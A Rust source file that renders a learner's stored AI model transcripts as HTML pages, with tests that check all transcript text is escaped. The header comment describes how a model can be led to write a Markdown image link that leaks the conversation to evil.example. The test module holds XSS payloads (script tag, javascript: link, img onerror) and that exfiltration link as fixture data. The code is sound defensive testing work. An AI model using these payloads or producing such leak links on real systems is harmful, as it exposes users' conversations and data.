//! The learner's transcript pages: `/me/transcripts` (the list, newest first, with filters and
//! keyset pagination) and `/me/transcripts/{request_id}` (one conversation).
//!
//! Everything in a transcript came from a learner or a model, so it is **text**, escaped by
//! maud: never Markdown, never raw HTML, never a link or an image made from it (a model can be
//! talked into writing `![x](https://evil.example/leak?d=…)`; rendered, that leaks the
//! conversation). Message text goes in `div.msg-text`, shown with `white-space: pre-wrap`;
//! tool inputs and results in `<pre>`.
//!
//! Pure: renders what it is given (a D1 row list, a stored document) and fetches nothing.

use maud::{html, Markup};
use serde::{Deserialize, Deserializer};
use serde_json::Value;

use crate::time::rfc3339;
use crate::course::catalogue::{self, LESSONS};
use crate::gateway::pricing::MicroUsd;
use crate::views::page;

/// One line of the list: a usage row with its transcript.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
pub struct TranscriptRow {
    pub request_id: String,
    /// Milliseconds since the epoch.
    pub created_at: i64,
    pub model: String,
    pub status: i64,
    pub outcome: String,
    pub cost_micros: i64,
    #[serde(default)]
    pub lesson_id: Option<String>,
    /// D1 (SQLite) has no booleans: `0`/`1` are read as well as `false`/`true`.
    #[serde(deserialize_with = "flag")]
    pub stream: bool,
    pub input_tokens: i64,
    pub output_tokens: i64,
}

/// The list's filters, as given in the query string.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
pub struct Filters {
    /// A lesson id.
    pub lesson: Option<String>,
    /// A UTC day, `YYYY-MM-DD`.
    pub day: Option<String>,
}

impl Filters {
    fn lesson(&self) -> Option<&str> {
        self.lesson.as_deref().filter(|s| !s.is_empty())
    }

    fn day(&self) -> Option<&str> {
        self.day.as_deref().filter(|s| !s.is_empty())
    }

    fn active(&self) -> bool {
        self.lesson().is_some() || self.day().is_some()
    }
}

fn flag<'de, D: Deserializer<'de>>(d: D) -> Result<bool, D::Error> {
    #[derive(Deserialize)]
    #[serde(untagged)]
    enum Flag {
        Bool(bool),
        Int(i64),
        Float(f64),
    }
    Ok(match Flag::deserialize(d)? {
        Flag::Bool(b) => b,
        Flag::Int(n) => n != 0,
        Flag::Float(f) => f != 0.0,
    })
}

// ---------------------------------------------------------------------------------------------
// The list

/// `/me/transcripts`: the learner's exchanges, newest first; `next_before` is the cursor of
/// the next (older) page, if there is one.
pub fn list(rows: &[TranscriptRow], filters: &Filters, next_before: Option<&str>) -> String {
    let mut rows: Vec<&TranscriptRow> = rows.iter().collect();
    rows.sort_by(|a, b| (b.created_at, &b.request_id).cmp(&(a.created_at, &a.request_id)));
    page(
        "My transcripts",
        "Every model call you made through the academy: what you sent, what came back, what it cost.",
        html! {
            p.meta { a href="/me" { "← My progress" } }
            h1 { "My transcripts" }
            p.lede {
                "Every call you made through the academy's gateway, newest first: what you sent, what came back, "
                "and what it cost. Keys and other credentials were redacted before anything was stored."
            }
            form.filters method="get" action="/me/transcripts" {
                label for="f-lesson" { "Lesson" }
                " "
                select #f-lesson name="lesson" {
                    option value="" selected[filters.lesson().is_none()] { "All lessons" }
                    @for l in LESSONS {
                        option value=(l.id) selected[filters.lesson() == Some(l.id)] { (l.title) }
                    }
                }
                " "
                label for="f-day" { "Day (UTC)" }
                " "
                input #f-day type="date" name="day" value=[filters.day()];
                " "
                button type="submit" { "Filter" }
                @if filters.active() {
                    " " a href="/me/transcripts" { "Clear filters" }
                }
            }
            p { a href="/api/me/transcripts.jsonl" download { "Download all (JSON Lines)" } }
            @if rows.is_empty() {
                @if filters.active() {
                    p.muted #empty { "No transcripts match these filters. " a href="/me/transcripts" { "Show all" } "." }
                } @else {
                    p.muted #empty {
                        "No transcripts yet. Every call you make with your academy key to "
                        code { "/v1/messages" } " or " code { "/v1/chat/completions" }
                        " is kept here, streamed or not, succeeded or failed."
                    }
                }
            } @else {
                table.transcripts {
                    thead {
                        tr {
                            th scope="col" { "When (UTC)" }
                            th scope="col" { "Model" }
                            th scope="col" { "Lesson" }
                            th scope="col" { "Tokens in / out" }
                            th scope="col" { "Cost" }
                            th scope="col" { "Status" }
                        }
                    }
                    tbody {
                        @for r in &rows {
                            tr {
                                td { a href={ "/me/transcripts/" (r.request_id) } { (when(r.created_at)) } }
                                td { code { (r.model) } @if r.stream { " " span.muted { "streamed" } } }
                                td { (lesson_name(r.lesson_id.as_deref())) }
                                td { (r.input_tokens) " / " (r.output_tokens) }
                                td { "$" (MicroUsd(r.cost_micros).to_usd_string()) }
                                td { (status_badge(r.status, &r.outcome)) }
                            }
                        }
                    }
                }
            }
            @if let Some(before) = next_before {
                nav.pager aria-label="Pages" {
                    span {}
                    a rel="next" href=(older_href(before, filters)) { "Older →" }
                }
            }
        },
    )
}

/// The next page's link, keeping the filters.
fn older_href(before: &str, filters: &Filters) -> String {
    let mut query = form_urlencoded::Serializer::new(String::new());
    query.append_pair("before", before);
    if let Some(lesson) = filters.lesson() {
        query.append_pair("lesson", lesson);
    }
    if let Some(day) = filters.day() {
        query.append_pair("day", day);
    }
    format!("/me/transcripts?{}", query.finish())
}

/// `2025-07-07 20:02:18` (UTC) of milliseconds since the epoch.
fn when(ms: i64) -> String {
    short_time(&rfc3339(u64::try_from(ms).unwrap_or(0)))
}

/// `2025-07-07T20:02:18.123Z` → `2025-07-07 20:02:18`; anything else as it is.
fn short_time(rfc: &str) -> String {
    match rfc.get(..19) {
        Some(head) if rfc.get(10..11) == Some("T") => head.replacen('T', " ", 1),
        _ => rfc.to_string(),
    }
}

fn lesson_name(id: Option<&str>) -> Markup {
    match id {
        None => html! { span.muted { "—" } },
        Some(id) => match catalogue::lesson(id) {
            Some(l) => html! { a href={ "/lessons/" (l.id) } { (l.title) } },
            None => html! { code { (id) } },
        },
    }
}

fn status_badge(status: i64, outcome: &str) -> Markup {
    let ok = (200..300).contains(&status);
    html! {
        span.badge.right[ok].wrong[!ok] { (status) }
        " " span.muted { (outcome) }
    }
}

// ---------------------------------------------------------------------------------------------
// One transcript

/// `/me/transcripts/{request_id}`: the conversation of one stored transcript.
pub fn show(doc: &Value) -> String {
    let text = |field: &str| doc.get(field).and_then(Value::as_str).unwrap_or_default();
    let number = |field: &str| doc.get(field).and_then(Value::as_i64);
    let request_id = text("request_id");
    let request = doc.get("request").unwrap_or(&Value::Null);
    let response = doc.get("response").unwrap_or(&Value::Null);
    let usage = doc.get("usage").unwrap_or(&Value::Null);
    let tokens = |kind: &str| usage.get(kind).and_then(Value::as_u64).unwrap_or(0);
    let timings = doc.get("timings").unwrap_or(&Value::Null);
    let messages = request.get("messages").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let tools = request.get("tools").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let params = request.get("params").filter(|p| p.as_object().is_some_and(|o| !o.is_empty()));
    let system = request.get("system").filter(|s| !s.is_null());
    let content = response.get("content").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let stop_reason = response.get("stop_reason").and_then(Value::as_str);
    let error = response.get("error").filter(|e| !e.is_null());
    let lesson = doc.get("lesson_id").and_then(Value::as_str);
    let run = doc.get("run_id").and_then(Value::as_str);
    let title = if request_id.is_empty() { "Transcript".to_string() } else { format!("Transcript {request_id}") };
    page(
        &title,
        "One model exchange: the request, the response, usage and cost.",
        html! {
            p.meta { a href="/me/transcripts" { "← My transcripts" } }
            h1 { "Transcript" }
            @if doc.get("truncated").and_then(Value::as_bool) == Some(true) {
                p.muted {
                    "This exchange was larger than the storage limit: its longest texts were cut where you see "
                    code { "…[truncated by the academy: N bytes]" } "."
                }
            }
            table.transcript-meta {
                tbody {
                    tr { th scope="row" { "Model" } td {
                        code { (text("model")) }
                        @if let Some(up) = doc.get("upstream_model").and_then(Value::as_str) { " (" code { (up) } ")" }
                    } }
                    tr { th scope="row" { "Time" } td {
                        time datetime=(text("created_at")) { (short_time(text("created_at"))) " UTC" }
                    } }
                    tr { th scope="row" { "Status" } td { (status_badge(number("status").unwrap_or(0), text("outcome"))) } }
                    tr { th scope="row" { "Cost" } td {
                        "$" (text("cost_usd"))
                        @if doc.get("estimated").and_then(Value::as_bool) == Some(true) { " " span.badge { "estimated" } }
                    } }
                    tr { th scope="row" { "Tokens" } td {
                        "input " (tokens("input")) " · cache writes " (tokens("cache_write_5m").saturating_add(tokens("cache_write_1h")))
                        " · cache reads " (tokens("cache_read")) " · output " (tokens("output"))
                    } }
                    tr { th scope="row" { "Lesson" } td {
                        (lesson_name(lesson))
                        @if let Some(run) = run { " · run " code { (run) } }
                    } }
                    tr { th scope="row" { "Endpoint" } td {
                        code { (endpoint_path(text("endpoint"))) }
                        @if doc.get("stream").and_then(Value::as_bool) == Some(true) { " · streamed" }
                    } }
                    tr { th scope="row" { "Timings" } td {
                        @if let Some(ms) = timings.get("latency_ms").and_then(Value::as_u64) { (ms) " ms in all" }
                        @if let Some(ms) = timings.get("ttfb_ms").and_then(Value::as_u64) { " · first byte after " (ms) " ms" }
                    } }
                    tr { th scope="row" { "Request id" } td { code { (request_id) } } }
                    @if let Some(log) = doc.get("aig_log_id").and_then(Value::as_str) {
                        tr { th scope="row" { "AI Gateway log" } td { code { (log) } } }
                    }
                }
            }
            @if let Some(params) = params {
                details.params {
                    summary { "Parameters" }
                    pre { code { (pretty(params)) } }
                }
            }
            section aria-labelledby="system-h" {
                h2 #system-h { "System prompt" }
                @match system {
                    Some(s) => (content_of(s)),
                    None => p.muted { "None." },
                }
            }
            @if !tools.is_empty() {
                section aria-labelledby="tools-h" {
                    h2 #tools-h { "Tools offered" }
                    ul.tools {
                        @for t in tools { (tool_offered(t)) }
                    }
                }
            }
            section aria-labelledby="messages-h" {
                h2 #messages-h { "Messages" }
                @if messages.is_empty() { p.muted { "None." } }
                @for m in messages { (message(m)) }
            }
            section aria-labelledby="response-h" {
                h2 #response-h { "Response" }
                @if content.is_empty() && error.is_none() {
                    p.muted { "No response content was received." }
                }
                @if !content.is_empty() {
                    article.msg.role-assistant {
                        h3.msg-role { "assistant" }
                        @for b in content { (block(b)) }
                    }
                }
                @if let Some(reason) = stop_reason { p.meta { "Stop reason: " code { (reason) } } }
                @if let Some(error) = error {
                    h3 { "Error" }
                    pre.error { code { (pretty(error)) } }
                }
            }
            @if !request_id.is_empty() {
                p.meta { a href={ "/api/me/transcripts/" (request_id) } { "This transcript as JSON" } }
            }
        },
    )
}

fn endpoint_path(endpoint: &str) -> &str {
    match endpoint {
        "messages" => "/v1/messages",
        "chat_completions" => "/v1/chat/completions",
        other => other,
    }
}

/// JSON as people read it; a string as itself.
fn pretty(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => serde_json::to_string_pretty(other).unwrap_or_default(),
    }
}

/// A fixed class per known role (never a class made from input).
fn role_class(role: &str) -> &'static str {
    match role {
        "user" => "role-user",
        "assistant" => "role-assistant",
        "system" | "developer" => "role-system",
        "tool" | "function" => "role-tool",
        _ => "role-other",
    }
}

fn message(m: &Value) -> Markup {
    let role = m.get("role").and_then(Value::as_str).unwrap_or("(no role)");
    let name = m.get("name").and_then(Value::as_str);
    let tool_calls = m.get("tool_calls").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let call_id = m.get("tool_call_id").and_then(Value::as_str);
    html! {
        article class={ "msg " (role_class(role)) } {
            h3.msg-role { (role) @if let Some(n) = name { " " span.muted { "(" (n) ")" } } }
            @if let Some(id) = call_id {
                // An OpenAI `tool` message: its content is the result of one call.
                div.tool-result {
                    p.meta { "Tool result for " code { (id) } }
                    @match m.get("content") {
                        Some(Value::Array(parts)) => { @for p in parts { (result_part(p)) } },
                        Some(v) if !v.is_null() => pre { code { (pretty(v)) } },
                        _ => {},
                    }
                }
            } @else {
                @if let Some(c) = m.get("content") { (content_of(c)) }
            }
            @for call in tool_calls { (openai_tool_call(call)) }
        }
    }
}

/// A message `content` (or a system prompt): a string, or a list of blocks.
fn content_of(v: &Value) -> Markup {
    match v {
        Value::Null => html! {},
        Value::String(s) => html! { div.msg-text { (s) } },
        Value::Array(blocks) => html! { @for b in blocks { (block(b)) } },
        other => html! { pre { code { (pretty(other)) } } },
    }
}

/// One content block, by type; unknown types as their JSON.
fn block(b: &Value) -> Markup {
    let kind = b.get("type").and_then(Value::as_str).unwrap_or_default();
    let field = |name: &str| b.get(name).and_then(Value::as_str).unwrap_or_default();
    match kind {
        "text" | "input_text" | "output_text" => html! { div.msg-text { (field("text")) } },
        "refusal" => html! {
            p.meta { "Refusal" }
            div.msg-text { (field("text")) }
        },
        "thinking" => html! {
            details.thinking {
                summary { "Thinking" }
                div.msg-text { (field("thinking")) }
            }
        },
        "redacted_thinking" => html! { p.muted { "Thinking (encrypted by the provider, not shown)." } },
        "tool_use" | "server_tool_use" | "mcp_tool_use" => tool_call(field("name"), field("id"), b.get("input").unwrap_or(&Value::Null)),
        k if k == "tool_result" || k.ends_with("_tool_result") => {
            let is_error = b.get("is_error").and_then(Value::as_bool) == Some(true);
            html! {
                div.tool-result {
                    p.meta {
                        "Tool result"
                        @if let Some(id) = b.get("tool_use_id").and_then(Value::as_str) { " for " code { (id) } }
                        @if is_error { " " span.badge.wrong { "error" } }
                    }
                    @match b.get("content") {
                        Some(Value::Array(parts)) => { @for p in parts { (result_part(p)) } },
                        Some(v) if !v.is_null() => pre { code { (pretty(v)) } },
                        _ => {},
                    }
                }
            }
        }
        "image" | "image_url" | "input_image" => html! { p.muted { "[An image was sent here; transcripts do not display images.]" } },
        "document" | "file" | "input_file" | "input_audio" => html! {
            p.muted {
                "[A " (if kind == "input_audio" { "sound clip" } else { "document" }) " was sent here"
                @if let Some(t) = b.get("title").and_then(Value::as_str) { ": " (t) }
                "; transcripts do not display it.]"
            }
        },
        _ => html! {
            div.block {
                p.meta { "Block " code { (if kind.is_empty() { "(untyped)" } else { kind }) } }
                pre { code { (pretty(b)) } }
            }
        },
    }
}

/// A part of a tool result: text in `<pre>`, other blocks as blocks.
fn result_part(p: &Value) -> Markup {
    match (p.get("type").and_then(Value::as_str), p.get("text").and_then(Value::as_str)) {
        (Some("text") | None, Some(text)) => html! { pre { code { (text) } } },
        _ => block(p),
    }
}

fn tool_call(name: &str, id: &str, input: &Value) -> Markup {
    html! {
        div.tool-call {
            p.meta {
                "Tool call " code { (name) }
                @if !id.is_empty() { " " span.muted { (id) } }
            }
            pre { code { (pretty(input)) } }
        }
    }
}

/// An OpenAI assistant `tool_calls` entry, shown like a `tool_use` block.
fn openai_tool_call(call: &Value) -> Markup {
    let f = call.get("function").unwrap_or(&Value::Null);
    let name = f.get("name").and_then(Value::as_str).unwrap_or_default();
    let id = call.get("id").and_then(Value::as_str).unwrap_or_default();
    let input = match f.get("arguments") {
        Some(Value::String(raw)) => serde_json::from_str(raw).unwrap_or_else(|_| Value::String(raw.clone())),
        Some(other) => other.clone(),
        None => Value::Null,
    };
    tool_call(name, id, &input)
}

fn tool_offered(t: &Value) -> Markup {
    let f = t.get("function");
    let pick = |name: &str| {
        t.get(name).or_else(|| f.and_then(|f| f.get(name))).and_then(Value::as_str).unwrap_or_default()
    };
    let name = pick("name");
    let description = pick("description");
    html! {
        li {
            code { (if name.is_empty() { t.get("type").and_then(Value::as_str).unwrap_or("(unnamed)") } else { name }) }
            @if !description.is_empty() { " — " span.msg-text { (description) } }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const ATTACKS: [&str; 4] = [
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "![x](https://evil.example/leak?d=secret)",
        "<img src=x onerror=alert(1)>",
    ];

    /// Every tag of a page, from `<` to `>`, without its quoted attribute values (maud escapes
    /// `"`, `<` and `>` in them, so text there stays text).
    fn tags(html: &str) -> Vec<String> {
        html.split('<')
            .skip(1)
            .map(|t| t.split('>').next().unwrap_or(t))
            .map(|t| t.split('"').step_by(2).collect::<String>())
            .collect()
    }

    #[track_caller]
    fn assert_inert(html: &str) {
        assert!(!html.contains("<script"), "script tag");
        assert!(!html.contains("<img"), "img tag");
        assert!(!html.contains("href=\"javascript:"), "javascript link");
        assert!(!html.contains("https://evil.example/leak?d=secret\""), "exfiltration link");
        for tag in tags(html) {
            assert!(!tag.contains("src="), "src attribute in <{tag}>");
            assert!(!tag.contains("onerror"), "handler in <{tag}>");
            assert!(!tag.contains("evil.example"), "attacker URL in <{tag}>");
        }
    }

    fn hostile_doc() -> Value {
        let all = ATTACKS.join("\n");
        json!({
            "version": 1, "request_id": "req_01JZX", "learner_id": "lrn_a", "created_at": "2025-07-07T20:02:18.123Z",
            "lesson_id": "no-such-lesson", "run_id": "run-1", "endpoint": "messages",
            "model": "haiku", "upstream_model": "claude-haiku-4-5-20251001", "stream": true,
            "status": 200, "outcome": "ok",
            "usage": {"input": 770, "cache_write_5m": 0, "cache_write_1h": 0, "cache_read": 0, "output": 38},
            "cost_micros": 402, "cost_usd": "0.000402", "estimated": false,
            "timings": {"latency_ms": 900, "ttfb_ms": 120}, "aig_log_id": null,
            "request": {
                "model": "haiku",
                "params": {"max_tokens": 100, "temperature": all},
                "system": all,
                "messages": [
                    {"role": "user", "content": all},
                    {"role": "assistant", "content": [
                        {"type": "text", "text": all},
                        {"type": "tool_use", "id": "toolu_1", "name": "get_weather", "input": {"location": all}},
                    ]},
                    {"role": "user", "content": [
                        {"type": "tool_result", "tool_use_id": "toolu_1", "is_error": true, "content": all},
                        {"type": "tool_result", "tool_use_id": "toolu_2", "content": [{"type": "text", "text": all}]},
                        {"type": "image", "source": {"type": "url", "url": "https://evil.example/leak?d=secret"}},
                        {"type": all, "text": all},
                    ]},
                ],
                "tools": [{"name": "get_weather", "description": all, "input_schema": {"type": "object"}}],
            },
            "request_headers": {"user-agent": all},
            "response": {
                "content": [
                    {"type": "thinking", "thinking": all},
                    {"type": "text", "text": all},
                    {"type": "tool_use", "id": "toolu_3", "name": "fetch_url", "input": all},
                ],
                "stop_reason": "tool_use",
                "error": {"type": "overloaded_error", "message": all},
            },
        })
    }

    #[test]
    fn hostile_text_in_a_transcript_renders_inert() {
        let html = show(&hostile_doc());
        assert_inert(&html);
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assert!(html.contains("[click](javascript:alert(1))"), "shown as text");
        assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"), "shown as text");
    }

    #[test]
    fn a_transcript_shows_roles_tool_calls_and_results() {
        let html = show(&hostile_doc());
        for want in [
            "role-user", "role-assistant", ">user<", ">assistant<", "Tool call <code>get_weather</code>",
            "Tool result for <code>toolu_1</code>", "badge wrong", "Tools offered", "Stop reason: <code>tool_use</code>",
            "overloaded_error", "$0.000402", "input 770", "output 38", "claude-haiku-4-5-20251001", "req_01JZX",
            "2025-07-07 20:02:18 UTC", "msg-text", "Thinking", "/v1/messages",
        ] {
            assert!(html.contains(want), "missing {want}");
        }
    }

    #[test]
    fn openai_messages_show_their_tool_calls_and_tool_results() {
        let doc = json!({
            "request_id": "req_2", "endpoint": "chat_completions",
            "request": {"system": "Be brief.", "messages": [
                {"role": "user", "content": [{"type": "text", "text": "square 2"}, {"type": "image_url", "image_url": {"url": "https://evil.example/x.png"}}]},
                {"role": "assistant", "content": null, "tool_calls": [
                    {"id": "call_1", "type": "function", "function": {"name": "calculate_square_tool", "arguments": "{\"x\":2}"}}]},
                {"role": "tool", "tool_call_id": "call_1", "content": "4"},
            ], "tools": [{"type": "function", "function": {"name": "calculate_square_tool", "description": "Squares x"}}]},
            "response": {"content": [{"type": "text", "text": "It is 4."}], "stop_reason": "stop", "error": null},
        });
        let html = show(&doc);
        assert_inert(&html);
        for want in ["Be brief.", "calculate_square_tool", "&quot;x&quot;: 2", "Tool result for <code>call_1</code>", "role-tool", "Squares x", "It is 4.", "/v1/chat/completions"] {
            assert!(html.contains(want), "missing {want}");
        }
    }

    #[test]
    fn a_document_of_the_wrong_shape_still_renders() {
        for doc in [json!(null), json!([1, 2]), json!({"request": 5, "response": "x", "usage": [], "status": "200"})] {
            let html = show(&doc);
            assert!(html.contains("Transcript"));
        }
    }

    fn row(id: &str, created_at: i64) -> TranscriptRow {
        TranscriptRow {
            request_id: id.to_string(),
            created_at,
            model: "haiku".to_string(),
            status: 200,
            outcome: "ok".to_string(),
            cost_micros: 402,
            lesson_id: None,
            stream: true,
            input_tokens: 770,
            output_tokens: 38,
        }
    }

    #[test]
    fn the_list_links_each_transcript_newest_first() {
        let lesson = LESSONS.first().unwrap();
        let mut old = row("req_old", 1_000);
        old.lesson_id = Some(lesson.id.to_string());
        old.status = 502;
        let rows = vec![old, row("req_new", 2_000)];
        let html = list(&rows, &Filters::default(), None);
        let new_at = html.find("/me/transcripts/req_new").unwrap();
        let old_at = html.find("/me/transcripts/req_old").unwrap();
        assert!(new_at < old_at);
        assert!(html.contains("$0.000402"));
        assert!(html.contains("770 / 38"));
        assert!(html.contains(lesson.title));
        assert!(html.contains("badge wrong"));
        assert!(html.contains("href=\"/api/me/transcripts.jsonl\""));
        assert!(html.contains("Download all (JSON Lines)"));
        assert!(!html.contains("Older"));
        assert!(!html.contains("id=\"empty\""));
    }

    #[test]
    fn the_older_link_keeps_the_filters() {
        let lesson = LESSONS.first().unwrap();
        let filters = Filters { lesson: Some(lesson.id.to_string()), day: Some("2025-07-07".to_string()) };
        let html = list(&[row("req_1", 1)], &filters, Some("req_1"));
        let want = format!("href=\"/me/transcripts?before=req_1&amp;lesson={}&amp;day=2025-07-07\"", lesson.id);
        assert!(html.contains(&want), "{want}");
        assert!(html.contains("Older →"));
        assert!(html.contains(&format!("value=\"{}\" selected", lesson.id)));
        assert!(html.contains("type=\"date\" name=\"day\" value=\"2025-07-07\""));
    }

    #[test]
    fn an_empty_list_says_so() {
        let html = list(&[], &Filters::default(), None);
        assert!(html.contains("No transcripts yet."));
        let html = list(&[], &Filters { lesson: None, day: Some("2025-01-01".to_string()) }, None);
        assert!(html.contains("No transcripts match these filters."));
        assert!(html.contains("Clear filters"));
    }

    #[test]
    fn filter_values_are_escaped() {
        let filters = Filters { lesson: Some("\"><script>".to_string()), day: Some("\"><img src=x>".to_string()) };
        let html = list(&[], &filters, Some("\"><script>"));
        assert_inert(&html);
    }

    #[test]
    fn rows_read_d1_integers_as_flags() {
        let json = r#"{"request_id":"req_1","created_at":1,"model":"m","status":200,"outcome":"ok","cost_micros":0,
            "lesson_id":null,"stream":1,"input_tokens":1,"output_tokens":2}"#;
        let row: TranscriptRow = serde_json::from_str(json).unwrap();
        assert!(row.stream);
        let json = json.replace("\"stream\":1", "\"stream\":false");
        let row: TranscriptRow = serde_json::from_str(&json).unwrap();
        assert!(!row.stream);
    }
}
